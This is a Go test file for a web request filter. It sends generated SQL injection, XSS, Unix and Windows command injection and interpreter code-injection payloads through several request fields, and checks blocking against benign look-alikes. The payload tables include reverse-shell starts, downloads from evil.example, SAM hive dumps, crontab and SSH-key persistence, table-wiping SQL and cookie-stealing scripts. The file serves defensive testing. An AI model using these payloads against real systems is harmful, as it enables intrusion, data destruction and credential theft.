package filter

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// Injection grammars of SQL, XSS and command and code injection, built
// from interchangeable parts (what the value held before, the separator,
// the command or expression) and sent where clients put values: query,
// form and JSON body, a custom header and a cookie. The look-alikes share
// the words and symbols of each shape.

// injectionAttacks are the positives by class.
func injectionAttacks() map[string][]string {
	m := map[string][]string{}

	// Unix: a value that starts by leaving its argument, then a command
	// that needs no option to do harm, a prefix that runs one, a shell
	// builtin or an assignment run as a command.
	unix := []string{"sudo -l", "sudo su", "nohup ./x &", "exec 5<>/dev/tcp/10.0.0.1/4444", ". /tmp/x", ">/tmp/x", "id #", "systemctl stop nginx", "kill -9 1", "pkill -f nginx", "ps aux", "ip addr", "uptime", "reboot", "unset HISTFILE", "export X=1", "echo $PATH", "which nc", "timeout 5 id", `echo "* * * * * root id" >> /etc/crontab`, "echo key >> ~/.ssh/authorized_keys", "a=i;b=d;$a$b", "c=whoami;$c", `X=$'\x69\x64';$X`, "$0 -c id", "who$()ami", "/*/bin/id", "tar cf x y --checkpoint=1 --checkpoint-action=exec=id", "eval id", "mknod /tmp/p p"}
	m["rce"] = append(m["rce"], cross("", []string{"", "127.0.0.1", "1"}, []string{";", "|", "&&", "||"}, unix)...)

	// cmd.exe and PowerShell after a separator.
	win := []string{"net session", `reg save hklm\sam s.hiv`, "qwinsta", "msiexec /i http://evil.example/x.msi /q", "curl.exe http://evil.example -o x.exe", "start calc", "netsh firewall show state", `forfiles /p c:\windows /m x /c calc`, "findstr /si password *.txt", "sc query", `type \\files.example\share\x`, `expand \\files.example\x.cab c:\x`, "^w^h^o^a^m^i", "Get-Process", `Get-ChildItem C:\`, "Invoke-Expression 'whoami'", "Start-Process calc", "[System.Diagnostics.Process]::Start('calc')", "[Convert]::FromBase64String('aWQ=')", "$c=New-Object Net.Sockets.TCPClient('10.0.0.1',4444)", "ls env:", "echo $env:PATH"}
	m["rce-windows"] = cross(" ", []string{"&", "|", "&&", ";"}, win)

	// Interpreter code: Ruby and Perl quoting operators, dispatch and
	// piped open; Python's class tree; PHP callbacks and includes; Node's
	// process modules at the start of a value.
	for _, c := range []string{"id", "cat /etc/passwd", "uname -a"} {
		for _, d := range []string{"()", "{}", "[]", "||", "!!"} {
			m["code"] = append(m["code"], "%x"+d[:1]+c+d[1:])
			if d != "[]" {
				// A value of letters and brackets alone reaches no
				// command detector (rceClasses).
				m["code"] = append(m["code"], "qx"+d[:1]+c+d[1:])
			}
		}
		m["code"] = append(m["code"], "#{`"+c+"`}", "#{%x("+c+")}", "echo `"+c+"`;", "print(`"+c+"`);", "`"+c+"`;", `exec "`+c+`";`, "system '"+c+"';",
			`open(F,"`+c+`|");`, `open(my $f, "-|", "`+c+`")`, `open("|`+c+`").read`, "require('child_process').exec('"+c+"')")
	}
	for _, f := range []string{"system", "exec", "eval", "spawn"} {
		m["code"] = append(m["code"], "send(:"+f+",'id')", "Kernel.public_send(:"+f+",'id')", "Object.__send__(:"+f+", 'id')")
	}
	for _, cb := range []string{"array_map('%s',['id'])", "array_filter(['id'],'%s')", "usort($a,'%s')", "uasort($a, \"%s\")", "register_shutdown_function('%s','id')", "call_user_func_array('%s',['id'])", "array_walk($a,'%s')"} {
		for _, f := range []string{"system", "passthru", "shell_exec", "assert"} {
			m["code"] = append(m["code"], strings.Replace(cb, "%s", f, 1)+";")
		}
	}
	m["code"] = append(m["code"],
		"().__class__.__bases__[0].__subclasses__()", "[].__class__.__base__.__subclasses__()", "''.__class__.__mro__[1].__subclasses__()",
		"x.__init__.__globals__['os'].popen('id')", "__builtins__.__import__('os').system('id')", "compile('import os','','exec')", `exec("import os;os.system('id')")`,
		"include('http://evil.example/x.txt');", "require_once 'https://evil.example/x';", "'));var_dump(scandir('.'));//", "print_r(file_get_contents('/etc/hosts'));", "(new ReflectionFunction('system'))->invoke('id');",
		"require('fs').readdirSync('.')", "process.kill(process.pid)", "process.exit()", "';process.exit();//", "vm.runInThisContext('process.exit()')", "Marshal.load(Base64.decode64('BAh'))",
		"--- !ruby/object:Gem::Installer\ni: x")

	// SQL: a literal closed, a boolean operator, a function as the
	// condition and a comment; a whole value that is only an operator
	// between two quotes; a leading boolean fragment.
	m["sqli"] = append(m["sqli"], cross("", []string{"'", "')", "\"", "x'"}, []string{" OR ", " AND ", " || "}, []string{"json_valid('{}')", "sqlite_version()", "isnull(null)", "version()"}, []string{"-- ", "#", "/*"})...)
	m["sqli"] = append(m["sqli"], "'='", "'-'", "'||'", "'*'", "'^'", "'<'")
	m["sqli"] = append(m["sqli"], cross(" ", []string{"OR", "AND", "or", "||"}, []string{"1=1", "2>1", "'a'='a'", "1 like 1"}, []string{"", "--", "#"})...)

	// A whole value that is a statement wiping a table, or one whose
	// condition is a tautology, or a number and a stacked statement.
	for _, t := range []string{"users", "`users`", "dbo.users", "[users]"} {
		for _, end := range []string{";", "; --", "--", "#", ";#"} {
			m["sqli"] = append(m["sqli"], "DROP TABLE "+t+end, "drop table if exists "+t+end, "TRUNCATE TABLE "+t+end, "DELETE FROM "+t+end)
		}
		for _, cond := range []string{"1=1", "'a'='a'", "2>1"} {
			m["sqli"] = append(m["sqli"], "DELETE FROM "+t+" WHERE "+cond, "UPDATE "+t+" SET role='admin' WHERE "+cond, "update "+t+" set pass='x' where id=1 or "+cond+"--")
		}
		m["sqli"] = append(m["sqli"], "INSERT INTO "+t+" VALUES (1,'x')", "insert into "+t+"(name,role) values('x','admin');--")
	}
	m["sqli"] = append(m["sqli"], cross("", []string{"1", "1'", "2)"}, []string{";", "; "}, []string{"SELECT *", "select @@version", "SELECT 1,2", "select user()", "DELETE FROM users", "DROP TABLE users", "exec xp_cmdshell 'dir'", "DECLARE @x int", "WAITFOR DELAY '0:0:5'", "shutdown"})...)

	// SQL keywords split by comments, for code that strips comments.
	m["sqli"] = append(m["sqli"], "UN/**/ION SEL/**/ECT 1,2", "1 un/*x*/ion all sel/*x*/ect null--", "' or 1=1 ord/**/er by 1", "sl/**/eep(5)", "ben/**/chmark(1000000,md5(1))")

	// JavaScript that sends the page's cookie away or calls a dialog
	// through an alias.
	for _, sink := range []string{"new Image().src=%s", "location=%s", "fetch(%s)", "document.location.href=%s"} {
		for _, u := range []string{"'//evil.example/?c='+%s", "`https://evil.example/`+%s", `"//evil.example/"+%s`} {
			for _, c := range []string{"document.cookie", "window.document.cookie", "top.document.cookie"} {
				m["xss"] = append(m["xss"], strings.Replace(sink, "%s", strings.Replace(u, "%s", c, 1), 1))
			}
		}
	}
	m["xss"] = append(m["xss"], "navigator.sendBeacon('//evil.example',document.cookie)", "fetch('//evil.example',{method:'POST',body:localStorage})",
		"a=alert,a(1)", "p=prompt;p`1`", "c=confirm;c(document.domain)", "x = eval; x(name)", "Reflect.apply(alert,null,[1])", "Reflect.construct(Function,['alert(1)'])")
	// A script string left after at most a word, then any call or an
	// assignment to a property or navigating global, then the rest of
	// the line commented out or the string reopened.
	m["xss"] = append(m["xss"], cross("", []string{"'", "\"", "x'", "`"}, []string{";", "-", "+", "*", "||"}, []string{"queueMicrotask(alert)", "structuredClone(alert)", "location=name", "document.body.innerHTML=1", "self.location.href='//evil.example'", "top.opener=null", "fn`1`"}, []string{"//", "-'", "+\"", ";//"})...)
	return m
}

// injectionBenign are look-alikes of the shapes above.
var injectionBenign = []string{
	// Separators in prose, tables and lists.
	"Tom & Jerry; date night ideas", "Salt & pepper | set of 2", "Q&A; history of Rome", "| Command | Purpose |", "| Command shape | What to wire |", "| Hostname | IP address |", "Name | Date | Amount",
	"Sort by: name; date", "Quick start: set up your account; then export your data", "a; b; c", ";-)", "& more", "& sons", "12; 13", "2024-01-01; 2024-02-01",
	"you can type nc to start netcat", "ip addr show eth0", "sudo apt install nginx", "nohup is a command", "the command -v flag",
	// Assignments and variables of other languages.
	"$a=1;$b=2;echo $a;", "x=1;$x", "i=0;$i++", "$i=0;$i++", "foo=bar; ${foo}", "price=$5; $10 total", "a=1; b=2; echo $a",
	// Carets, globs and comments.
	"The ^ operator: a^b", "2^10 & 3^2", "^_^ & :)", "Ctrl^C & Ctrl^V", "/* comment */", "x /* y", "see /*", "1 /* 2 */ 3", "glob /*/*.txt", "ls /*",
	// Code that names the same functions.
	"echo \"hello\" > out.txt", "Run `ls -la` to list files", "Use `echo $PATH` to print the path", "print(`hello`)", "The system \"works\"; it's fine.", "Use exec \"bash\" in Docker",
	"open(file, \"r\") in Python", "open(\"report.pdf\")", "usort($users, 'compareByName');", "include('header.php');", "require_once __DIR__ . '/vendor/autoload.php';", "require('express')",
	"const fs = require('fs'); fs.readFileSync('config.json')", "process.exit(0) is called when the app stops", "echo(json_encode($data));", "new ReflectionClass('User')", "vm.name = 'test'",
	"re.compile('[a-z]+')", "Marshal the troops", "self.__class__.__name__", "type(self).__name__", "super().__init__()", "%x format specifier prints hex", `printf("%x", value)`, `printf("%x(%d)", a, b)`,
	"#{name} interpolation in Ruby", "send(:greet)", "obj.send(:name)", "method(:puts)", "qx is a Perl operator", "The qx (quote execute) operator",
	`URL Pattern of this URL channel. Does not include "http://" or "https://". Example: www.example.com/home`, "Please include https://example.com/docs in the email",
	// PowerShell and cmd in documentation.
	"PowerShell Get-Process lists processes", "Get-Help Get-Process -Online", "[System.Math]::Round(2.5)", "[int]::MaxValue", "[DateTime]::Now", "std::vector<int> v;",
	"New-York-Style Pizza", "get-started guide", "sc query is a Windows command", "netsh is used for network configuration", "findstr /i is like grep", "net use Z: \\\\server\\share", "copy /b file1+file2 out",
	// SQL words and quotes in prose.
	"OR 1=1 explained", "and 1 more", "or 2 others", "a = 5 or b = 6", "'-' means no value", "'=' is the assignment operator", "'*' wildcard", "it's 'x' or 'y' -- maybe",
	// Comments and globs between words.
	"src/**/index.js", "glob src/**/*.ts", "a/*b*/c", "/* select */ from the menu", "word/* note */s",
	// Whole statements of documentation, labels and quoted parameters.
	"Delete from cart", "delete from favorites", "Drop table tennis", "drop database connection", "Update profile set", "truncate table in mysql tutorial", "DROP TABLE syntax", "Insert into cart",
	"UPDATE point SET x = 1 WHERE y = 2;", "10;select the best", "3.5; delete me", "delete from list -- keep the rest", "INSERT INTO is used to add rows",
	`"; charset=utf-8"`, "'; q=0.9'", "'use strict'; module.exports = x", `"a", b(c)`, `", see(below)"`, "'hello' + world", `"foo" - bar(baz)`, "O'Neil; call me", `"a" + b + "c"`, `"quoted"; then more`,
	// Cookies, beacons and dialogs in code.
	"a=alert,b=warning", "level=alert; status=ok", "severity=alert, msg=disk full", "mode=confirm;next=2", "navigator.sendBeacon('/analytics', data)",
	"fetch('/api/items').then(r => r.json())", "localStorage.setItem('k', 'v')", "Reflect.apply(fn, obj, args)", "Reflect.ownKeys(obj)",
}

// injectionPlaces are where the tables are sent.
var injectionPlaces = []string{"query", "form", "json", "header", "cookie"}

func injectionReq(place, v string) (string, bool) {
	switch place {
	case "header":
		// Header values hold no line breaks; cookies no ';' or ','.
		return "X-Client-Note", !strings.ContainsAny(v, "\r\n")
	case "cookie":
		return "pref", !strings.ContainsAny(v, "\r\n;, \"\\")
	}
	return "q", true
}

func TestInjectionGrammarAttacks(t *testing.T) {
	eng, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	for class, payloads := range injectionAttacks() {
		missed, total := 0, 0
		for _, p := range payloads {
			for _, place := range injectionPlaces {
				name, ok := injectionReq(place, p)
				if !ok {
					continue
				}
				total++
				if !expectVerdict(t, eng, injectionSend(place, name, p), fmt.Sprintf("%s in %s: %q", class, place, p), true) {
					missed++
				}
			}
		}
		t.Logf("%-12s %d/%d blocked", class, total-missed, total)
	}
}

func TestInjectionGrammarBenign(t *testing.T) {
	eng, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range injectionBenign {
		for _, place := range injectionPlaces {
			name, ok := injectionReq(place, v)
			if !ok {
				continue
			}
			expectVerdict(t, eng, injectionSend(place, name, v), fmt.Sprintf("%q in %s", v, place), false)
		}
	}
}

// injectionSend builds the request that carries v in place.
func injectionSend(place, name, v string) *http.Request {
	switch place {
	case "header":
		return newReq("GET", "http://app.example.com/", "", "", name, v)
	case "cookie":
		return newReq("GET", "http://app.example.com/", "", "", "Cookie", "sid=abc; "+name+"="+v)
	}
	return sendIn(place, name, v)
}
